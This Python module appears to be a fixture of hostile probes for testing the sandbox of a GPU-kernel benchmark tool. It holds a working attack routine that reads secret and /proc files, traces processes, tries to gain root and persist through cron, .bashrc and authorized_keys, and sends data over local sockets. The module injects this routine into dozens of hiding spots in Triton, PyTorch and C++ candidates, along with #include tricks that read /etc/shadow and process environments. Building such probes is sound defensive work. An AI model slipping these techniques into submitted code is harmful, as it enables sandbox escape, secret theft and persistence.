"""Hostile files: sources of candidates and problems that try to read, write, send and stay where they must not.

Each Python one runs `attack()` at another place. What it gets hold of it puts into its error message; what it does
outside, the decoys see. NAMES IN CAPITALS are filled in from the probes' target; of the secret they know a hash alone.
"""

from __future__ import annotations

import hashlib

from foretell.kernels.walls.probes.probe import Target

ATTACK = """
import ctypes, hashlib, os, re, socket, sys, threading, time


def is_secret(word):
    return hashlib.sha256(word.encode()).hexdigest() == "DIGEST"


def attack():
    loot = []

    libc = ctypes.CDLL(None)

    def raise_loot(words):
        loot.append(words)

    def attempt(function):
        try:
            found = function()
        except BaseException:
            return
        loot.extend(word for word in re.findall("[0-9a-f]{32}", str(found)) if is_secret(word))

    def read_home():
        return open("SECRET_FILE").read()

    def read_environments():
        found = []
        for pid in [name for name in os.listdir("/proc") if name.isdecimal()] + ["DECOY_PID", str(os.getppid())]:
            try:
                found.append(open(f"/proc/{pid}/environ").read())
            except OSError:
                pass
        return found

    def read_by_shell():
        import subprocess
        return subprocess.run(["sh", "-c", "cat SECRET_FILE; env; ps aux"], capture_output=True, text=True).stdout

    def read_by_roots():
        return [open(f"/proc/{pid}/root/SECRET_FILE").read() for pid in ("1", "self", str(os.getppid()))]

    def read_memory():
        with open("/proc/DECOY_PID/mem", "rb") as memory, open("/proc/DECOY_PID/maps") as maps:
            for line in maps:
                start, end = (int(number, 16) for number in line.split()[0].split("-"))
                memory.seek(start)
                if found := re.search(rb"SECRET=([0-9a-f]{32})", memory.read(end - start)):
                    return found.group(1).decode()

    def read_shared_memory():
        libc.shmat.restype = ctypes.c_void_p
        return ctypes.string_at(libc.shmat(SEGMENT, None, 0o10000), 32).decode()

    def read_folder():
        return [open(f"{parent}/{name}").read() for parent, _, names in os.walk("HOME") for name in names]

    def link():
        for folder in ("CACHE", "CACHE/built", "CACHE/trusted", "CACHE/cpp", os.environ.get("FORETELL_CACHE", "/tmp")):
            for make in (os.symlink, os.link):
                try:
                    make("SECRET_FILE", f"{folder}/MARKER-{make.__name__}")
                    return open(f"{folder}/MARKER-{make.__name__}").read()
                except OSError:
                    pass

    def trace():
        if libc.ptrace(ctypes.c_long(0x4206), ctypes.c_long(DECOY_PID), None, None) == 0:
            raise_loot("traced")

    def mount():
        if libc.mount(b"tmpfs", b"HOME", b"tmpfs", 0, None) == 0 or libc.unshare(0x10020000) == 0:
            raise_loot("mounted")

    def use_doors():
        for number, arguments in ((425, (4, b"\\0" * 120)), (250, (0, -3, 0)), (321, (0, b"\\0" * 120, 120)), (323, (0,))):
            if os.uname().machine == "x86_64" and libc.syscall(number, *arguments) >= 0:
                raise_loot(f"system call {number}")

    def become_root():
        if os.getuid():
            os.setuid(0)
            raise_loot("root")
        os.setuid(1)
        raise_loot("another user")

    def persist():
        for path in ("HOME/.bashrc", "HOME/.ssh/authorized_keys", "/etc/cron.d/MARKER", "/var/spool/cron/MARKER"):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "a").write("changed")
            except OSError:
                pass
        for folder in sys.path:
            try:
                open(f"{folder}/MARKER.pth", "w").write("import os")
            except OSError:
                pass

    def change_files():
        for function in (os.unlink, lambda p: os.chmod(p, 0o4777), lambda p: os.utime(p, (1, 1)), lambda p: os.truncate(p, 0)):
            try:
                function("SECRET_FILE")
            except OSError:
                pass

    def append():
        open("SECRET_FILE", "a").write("changed")

    def make():
        open("HOME/MARKER", "w").write("made")

    def leave():
        for folder in ("/var/tmp", "/dev/shm", "/run", "CACHE", "CACHE/trusted", "CACHE/built"):
            try:
                open(f"{folder}/MARKER", "w").write("left")
            except OSError:
                pass

    def send():
        for family, address in ((socket.AF_INET, ("127.0.0.1", TCP_PORT)), (socket.AF_UNIX, "UNIX_PATH"), (socket.AF_UNIX, "\\0ABSTRACT")):
            try:
                with socket.socket(family) as channel:
                    channel.connect(address)
                    channel.sendall(b"reached")
            except OSError:
                pass

    def stay():
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"PROCESS_NAME", 0, 0, 0)
                for _ in range(3000):
                    time.sleep(0.1)
                    for function in (append, make, send):
                        try:
                            function()
                        except BaseException:
                            pass
            os._exit(0)

    def end_others():
        os.kill(DECOY_PID, 9)

    reading = (read_home, read_environments, read_by_shell, read_by_roots, read_memory, read_shared_memory, read_folder, link)
    gaining = (trace, mount, use_doors, become_root)
    for function in (*reading, *gaining, append, make, leave, send, persist, stay, change_files, end_others):
        attempt(function)
    if loot:
        raise RuntimeError(f"LEAK {loot}")
"""
_TRITON = """
import torch
import triton
import triton.language as tl


@triton.jit
def body(x, out, n, B: tl.constexpr):
    i = tl.program_id(0) * B + tl.arange(0, B)
    tl.store(out + i, tl.load(x + i, mask=i < n), mask=i < n)
"""
_KERNEL = """

def kernel(x):
    out = torch.empty_like(x)
    body[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), 1024)
    return out
"""
_MODEL = """

class ModelNew(torch.nn.Module):
    def __init__(self, *_):
        super().__init__()
        IN_INIT

    def forward(self, x):
        IN_FORWARD
        out = torch.empty_like(x)
        body[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), 1024)
        return out
"""


def _model(init: str = "pass", forward: str = "pass") -> str:
    return _TRITON + _MODEL.replace("IN_INIT", init).replace("IN_FORWARD", forward)


# Host code of Triton candidates, by where the attack is made.
CANDIDATES: dict[str, str] = {
    "at module level": "attack()\n" + _TRITON + _KERNEL,
    "in kernel": _TRITON + _KERNEL.replace("    out =", "    attack()\n    out =", 1),
    "in ModelNew.__init__": _model(init="attack()"),
    "in ModelNew.forward": _model(forward="attack()"),
    "in custom_kernel": _TRITON + _KERNEL.replace("def kernel(x):", "def custom_kernel(x):\n    attack()"),
    "in a default argument": _TRITON + _KERNEL.replace("def kernel(x):", "def kernel(x, hidden=attack()):"),
    "in a metaclass": "class Meta(type):\n    def __init__(cls, *_):\n        attack()\n\n\nclass A(metaclass=Meta): pass\n"
    + _TRITON
    + _KERNEL,
    "in a decorator": "def deco(f):\n    attack()\n    return f\n" + _TRITON + _KERNEL.replace("def kernel", "@deco\ndef kernel"),
    "in the grid": _TRITON
    + "\n\ndef kernel(x):\n    out = torch.empty_like(x)\n"
    + "    body[lambda meta: (attack() or triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), 1024)\n    return out\n",
    "in the autotuner": _TRITON.replace(
        "@triton.jit",
        "def prune(configs, *_, **__):\n    attack()\n    return configs\n\n\n"
        "@triton.autotune([triton.Config({'B': 1024}), triton.Config({'B': 512})], key=['n'],"
        " prune_configs_by={'early_config_prune': prune})\n@triton.jit",
    )
    + "\n\ndef kernel(x):\n    out = torch.empty_like(x)\n"
    + "    body[lambda meta: (triton.cdiv(x.numel(), meta['B']),)](x, out, x.numel())\n    return out\n",
    "in a hook before launches": _TRITON.replace(
        "@triton.jit",
        "@triton.autotune([triton.Config({'B': 1024}, pre_hook=lambda *_: attack())], key=['n'])\n@triton.jit",
    )
    + "\n\ndef kernel(x):\n    out = torch.empty_like(x)\n"
    + "    body[lambda meta: (triton.cdiv(x.numel(), meta['B']),)](x, out, x.numel())\n    return out\n",
    "in torch.compile": "import torch\n\n\ndef backend(module, inputs):\n    attack()\n    return module.forward\n\n\n"
    "@torch.compile(backend=backend)\ndef twice(x):\n    return x * 2\n"
    + _TRITON
    + _KERNEL.replace("    out =", "    twice(x)\n    out =", 1),
    "in a dispatch mode": _TRITON
    + "\nfrom torch.utils._python_dispatch import TorchDispatchMode\n\n\nclass Mode(TorchDispatchMode):\n"
    "    def __torch_dispatch__(self, f, t, a=(), k=None):\n        attack()\n        return f(*a, **(k or {}))\n"
    + _KERNEL.replace("    out =", "    with Mode():\n        x = x + 1\n    out =", 1),
    "in a thread": "threading.Thread(target=attack).start()\ntime.sleep(0.5)\n" + _TRITON + _KERNEL,
    "at exit": "import atexit\natexit.register(attack)\n" + _TRITON + _KERNEL,
    "when an object is deleted": "class A:\n    def __del__(self):\n        attack()\n\n\nA()\n" + _TRITON + _KERNEL,
    "in an import hook": "class Finder:\n    def find_spec(self, *_):\n        attack()\n\n\n"
    "sys.meta_path.insert(0, Finder())\ntry:\n    import nothing_of_the_kind\nexcept ImportError:\n    pass\n"
    + _TRITON
    + _KERNEL,
    "in another Python": "import subprocess\nsubprocess.run([sys.executable, '-c', open(__file__).read().split('# END')[0]"
    " + '\\nattack()'])\n" + _TRITON + _KERNEL,
    "by replacing functions of the builder": "import json, foretell.kernels.store.locations as l\n"
    "l.cache_dir = lambda: __import__('pathlib').Path('HOME')\njson.dumps = lambda *_, **__: attack() or '{}'\n"
    + _TRITON
    + _KERNEL,
    "by answering itself": "for fd in range(3, 64):\n    try:\n        os.write(fd, b'A' + (2**62).to_bytes(8, 'big') + b'x' * 99)\n"
    "    except OSError:\n        pass\n" + _TRITON + _KERNEL,
    "by leaving files for others": "import pathlib\nfor name in ('triton', 'cuda', 'extensions'):\n"
    "    folder = pathlib.Path(os.environ['FORETELL_CACHE']) / name\n    folder.mkdir(exist_ok=True)\n"
    "    (folder / 'out').symlink_to('SECRET_FILE')\n    (folder / 'fifo').mkdir()\n    os.mkfifo(folder / 'fifo' / 'x')\n"
    + _TRITON
    + _KERNEL,
}  # fmt: skip

# Host code of other forms, for the recorder.
RECORDED: dict[str, str] = {
    "a model": "import torch\n\n\nclass ModelNew(torch.nn.Module):\n    def forward(self, x):\n        attack()\n"
    "        return x * torch.sigmoid(x)\n",
    "run": "import torch\n\n\ndef run(x):\n    attack()\n    return x * torch.sigmoid(x)\n",
    "a function that is handed to autograd": "import torch\n\n\nclass Twice(torch.autograd.Function):\n    @staticmethod\n"
    "    def forward(ctx, x):\n        attack()\n        return x * torch.sigmoid(x)\n\n\ndef kernel(x):\n    return Twice.apply(x)\n",
    "code in a pickle": "import pickle, torch\n\n\nclass A:\n    def __reduce__(self):\n        return attack, ()\n\n\n"
    "def kernel(x):\n    pickle.loads(pickle.dumps(A()))\n    return x * torch.sigmoid(x)\n",
    "a loaded library": "import ctypes\nctypes.CDLL('SECRET_FILE')\n",
}

# CUDA in `foretell.cuda`: the compiler is asked to read.
CUDA: dict[str, str] = {
    "includes a file": '#include "SECRET_FILE"\nextern "C" __global__ void f(int n) {}',
    "puts a file into a message": "#define TEXT(...) #__VA_ARGS__\n#define SHOW(...) static_assert(false, TEXT(__VA_ARGS__))\n"
    'SHOW(\n#include "SECRET_FILE"\n);\nextern "C" __global__ void f(int n) {}',
    "includes the environment": '#include "/proc/self/environ"\nextern "C" __global__ void f(int n) {}',
}

_CPP = r"""
#include <torch/extension.h>
#include <cstdlib>
#include <fstream>
#include <stdexcept>
#include <string>
torch::Tensor twice(torch::Tensor x) { return x * 2; }
CODE
"""
_EXTENSION = """
import torch
from torch.utils.cpp_extension import load, load_inline

module = BUILT


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return module.twice(x)
"""


def _inline(code: str, more: str = "") -> str:
    source = _CPP.replace("CODE", code)
    return _EXTENSION.replace(
        "BUILT", f"load_inline(name='hostile', cpp_sources={source!r}, functions=['twice']{more})"
    )


# Extensions that candidates ask for: what the compiler is asked to read, and what runs when they are loaded.
EXTENSIONS: dict[str, str] = {
    "includes a file": _inline('#include "SECRET_FILE"'),
    "has a file included by an option": _inline("", ", extra_cflags=['-include', 'SECRET_FILE']"),
    "is built from a file of the home": _EXTENSION.replace("BUILT", "load(name='hostile', sources=['SECRET_FILE'])"),
    "runs code when it is loaded": _inline(
        'static int early = [] { std::ifstream in("SECRET_FILE"); std::string word; in >> word;'
        ' std::ofstream("HOME/MARKER") << word; std::ofstream("SECRET_FILE", std::ios::app) << 1;'
        ' int done = system("touch HOME/MARKER; (setsid sleep 1; touch HOME/MARKER) &");'
        ' if (!word.empty()) throw std::runtime_error("LEAK " + word); return done; }();'
    ),
}

# C++ candidates and what is compiled when they are: no code of theirs runs at that time.
COMPILED: dict[str, str] = {
    "includes a file of the home": '#include "SECRET_FILE"\n',
    "includes the accounts": "#include </etc/passwd>\n",
    "includes the passwords": '#include "/etc/shadow"\n',
    "includes the environment": '#include "/proc/self/environ"\n',
    "includes the environment of another": '#include "/proc/DECOY_PID/environ"\n',
    "includes its parent's environment": '#include "/proc/1/environ"\n',
    "includes by a relative path": '#include "../../../../../../../../SECRET_FILE"\n',
    "puts a file into a message": "#define TEXT(...) #__VA_ARGS__\n#define SHOW(...) static_assert(false, TEXT(__VA_ARGS__))\n"
    'SHOW(\n#include "SECRET_FILE"\n);\n',
    "makes a name of a file": 'int\n#include "SECRET_FILE"\n= 1; int y = undeclared;\n',
    "embeds a file": 'asm(".pushsection .rodata\\n.incbin \\"SECRET_FILE\\"\\n.popsection");\n',
    "assembles a file": 'asm(".include \\"SECRET_FILE\\"");\n',
    "makes an object larger than a file may be": 'extern "C" { __attribute__((used)) char big[800000000] = {1}; }\n',
    "embeds a file by the language": 'const char loot[] = {\n#embed "SECRET_FILE"\n};\n',
    "reads without end": '#include "/dev/zero"\n',
    "waits for a pipe": '#include "/dev/stdin"\n',
    "reads a folder": '#include "HOME"\n',
    "asks whether a file is there": '#if __has_include("SECRET_FILE")\n#error FOUND\n#endif\nint ok;\n',
    "loads a precompiled header": '#pragma GCC pch_preprocess "SECRET_FILE"\nnot code;\n',
    "names lines after a file": '#line 1 "SECRET_FILE"\nint x = undeclared;\n',
    "warns with a file": "#pragma message(TEXT)\n#warning x\n#define TEXT __FILE__\nint x = undeclared;\n",
    "writes a dependency file": "#pragma GCC dependency \"SECRET_FILE\"\nint x = undeclared;\n",
}  # fmt: skip

# Problems: a module of one's own for the CPU, and a KernelBench file, by where the attack is made.
MODULES: dict[str, str] = {
    "at module level": "attack()\nimport numpy as np\n\n\ndef inputs(seed):\n    return [np.ones(4, np.float32)]\n\n\n"
    "def reference(x):\n    return x\n",
    "in inputs": "import numpy as np\n\n\ndef inputs(seed):\n    attack()\n    return [np.ones(4, np.float32)]\n\n\n"
    "def reference(x):\n    return x\n",
    "in reference": "import numpy as np\n\n\ndef inputs(seed):\n    return [np.ones(4, np.float32)]\n\n\n"
    "def reference(x):\n    attack()\n    return x\n",
}
_PROBLEM = """
import torch


class Model(torch.nn.Module):
    def __init__(self):
        super().__init__()
        IN_INIT

    def forward(self, x):
        return x * 2


def get_inputs():
    IN_INPUTS
    return [torch.rand(4096)]


def get_init_inputs():
    IN_INIT_INPUTS
    return []
"""


def _problem(**places: str) -> str:
    text = _PROBLEM
    for place in ("IN_INPUTS", "IN_INIT_INPUTS", "IN_INIT"):
        text = text.replace(place, places.get(place, "pass"))
    return text


PROBLEMS: dict[str, str] = {
    "at module level": "attack()\n" + _problem(),
    "in get_inputs": _problem(IN_INPUTS="attack()"),
    "in get_init_inputs": _problem(IN_INIT_INPUTS="attack()"),
    "in Model": _problem(IN_INIT="attack()"),
}


def aimed(text: str, target: Target) -> str:
    """A source with the target's places in it."""
    places = {
        "SECRET_FILE": target.secret_file,
        "DIGEST": hashlib.sha256(target.secret.encode()).hexdigest(),
        "DECOY_PID": str(target.decoy_pid),
        "HOME": target.home,
        "CACHE": target.cache,
        "MARKER": target.marker,
        "PROCESS_NAME": target.process_name,
        "TCP_PORT": str(target.tcp_port),
        "UNIX_PATH": target.unix_path,
        "ABSTRACT": target.abstract_name,
        "SEGMENT": str(target.segment),
    }
    for name, value in places.items():
        text = text.replace(name, value)
    return text


def python(text: str, target: Target) -> str:
    """A Python source that can call `attack`."""
    return aimed(f"{ATTACK}# END\n{text}", target)
